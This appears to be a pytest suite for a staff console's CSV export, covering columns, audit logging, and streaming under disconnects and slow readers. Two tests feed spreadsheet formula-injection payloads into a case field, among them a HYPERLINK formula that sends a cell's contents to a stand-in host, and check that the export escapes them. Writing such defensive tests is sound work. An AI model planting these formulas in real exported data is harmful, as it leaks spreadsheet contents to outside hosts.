"""The export: for spreadsheets and scripts, as it comes, for whom it is meant, and written down."""

import csv
import io
import time
from contextlib import ExitStack

import pytest
import requests
from sqlalchemy import event, text

from tests.console.ledger import Ledger
from tests.console.served import Served
from web.staff import all_texts
from web.staff.access.roles import Role
from web.staff.console.texts_csv import COLUMNS


@pytest.fixture
def ledger(site: Served) -> Ledger:
    return Ledger(site)


def _table(answer: requests.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_the_columns_are_always_the_same_and_excel_knows_the_letters(site: Served) -> None:
    for role in (Role.SUPERVISOR, Role.ANALYST):
        answer = site.staff(role).get("/texts.csv")
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert answer.headers["Content-Disposition"].startswith('attachment; filename="texts-')
        assert answer.content.startswith(b"\xef\xbb\xbfdue_at,kind,sequence,language,state,rule,error_code,segments,")
        assert tuple(answer.content.decode("utf-8-sig").strip().split(",")) == COLUMNS


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_nothing_becomes_a_formula(site: Served, ledger: Ledger, begins: str) -> None:
    ledger.call("ottawa-1", case_number=f'{begins}HYPERLINK("http://example.org/?"&A1)')
    ledger.text(call_id="ottawa-1")
    cell = _table(site.staff(Role.SUPERVISOR).get("/texts.csv"))[0]["case_number"]
    assert cell == f'\'{begins}HYPERLINK("http://example.org/?"&A1)'


@pytest.mark.parametrize("separator", [";", "\t", "\r\n", "; ", "|"])
def test_nothing_becomes_a_formula_where_a_spreadsheet_parts_the_line_elsewhere(
    site: Served, ledger: Ledger, separator: str
) -> None:
    """A spreadsheet in French parts at semicolons, and takes no quotation marks within what it takes for a cell."""
    ledger.call("ottawa-1", case_number=f"26-1{separator}=1+1")
    ledger.text(call_id="ottawa-1")
    cell = _table(site.staff(Role.SUPERVISOR).get("/texts.csv"))[0]["case_number"]
    assert cell == f"26-1{separator}'=1+1"


def test_the_audit_log_has_who_and_which(site: Served) -> None:
    site.staff(Role.ANALYST).get("/texts.csv?from=2026-01-01&to=2026-01-31&state=failed&error=30003")
    entry = site.audit()[-1]
    assert (entry.name, entry.act, entry.outcome) == ("Demo analyst", "export_history", "allowed")
    assert entry.detail == {"from": "2026-01-01", "to": "2026-01-31", "state": "failed", "error": "30003"}
    assert "carrier’s error: 30003" in site.staff(Role.SUPERVISOR).get("/audit?act=export_history").text


def test_what_is_not_understood_is_no_export(site: Served) -> None:
    staff = site.staff(Role.SUPERVISOR)
    before = len(site.audit())
    assert staff.get("/texts.csv?state=gone").status_code == 400
    assert len(site.audit()) == before


def _watch(site: Served) -> list[str]:
    """What is asked of the ledger from now on."""
    asked: list[str] = []

    def note(*arguments: object) -> None:
        if "FROM text JOIN" in str(arguments[2]):
            asked.append(str(arguments[2]))

    event.listen(site.engine, "before_cursor_execute", note)
    return asked


def _nobody_holds_a_connection(site: Served) -> bool:
    until = time.monotonic() + 10
    while time.monotonic() < until:
        if site.engine.pool.status().endswith("Current Checked out connections: 0"):
            return True
        time.sleep(0.05)
    return False


def _many(site: Served, ledger: Ledger, count: int) -> None:
    ledger.text()
    with site.engine.begin() as connection:
        connection.execute(
            text(
                "INSERT INTO text (id, kind, sequence, recipient_version, state, policy_version, attempts, "
                "claimed_real, due_at, expires_at, updated_real) SELECT gen_random_uuid(), kind, 1, 1, state, "
                "repeat('v', 400), 1, claimed_real, due_at, expires_at, updated_real "
                "FROM text, generate_series(2, :count)"
            ),
            {"count": count},
        )


def test_whoever_hangs_up_ends_the_work(site: Served, ledger: Ledger) -> None:
    _many(site, ledger, 40_000)
    asked = _watch(site)
    with site.staff(Role.SUPERVISOR).get("/texts.csv", stream=True) as answer:
        next(answer.iter_content(1000))
    time.sleep(1)
    when_gone = len(asked)
    time.sleep(1)
    assert len(asked) == when_gone < 40_000 / all_texts.A_BATCH
    assert _nobody_holds_a_connection(site)


def test_whoever_reads_slowly_holds_no_connection(site: Served, ledger: Ledger) -> None:
    """Five that are read over a bad line must not close the console to everybody else."""
    _many(site, ledger, 40_000)
    staff = site.staff(Role.SUPERVISOR)
    with ExitStack() as open_ones:
        slow = [open_ones.enter_context(staff.get("/texts.csv", stream=True)) for _ in range(8)]
        time.sleep(1)
        assert staff.get("/texts").status_code == 200
        assert _nobody_holds_a_connection(site)
        rows = [sum(1 for line in answer.iter_lines(2**16) if line) for answer in slow]
    assert rows == [40_001] * 8


def test_an_export_that_breaks_off_is_not_taken_for_a_whole_one(
    site: Served, ledger: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    _many(site, ledger, 40_000)
    with site.staff(Role.SUPERVISOR).get("/texts.csv", stream=True) as answer:
        pieces = answer.iter_content(1000)
        next(pieces)
        with monkeypatch.context() as broken:
            broken.setattr(all_texts, "_cases", lambda *_: 1 / 0)
            with pytest.raises(requests.exceptions.ChunkedEncodingError):
                list(pieces)


def test_a_text_that_comes_meanwhile_moves_no_other(site: Served, ledger: Ledger) -> None:
    _many(site, ledger, 5000)
    with site.staff(Role.SUPERVISOR).get("/texts.csv", stream=True) as answer:
        lines = answer.iter_lines()
        next(lines)
        _many(site, Ledger(site), 10)
        assert sum(1 for line in lines if line) >= 5000
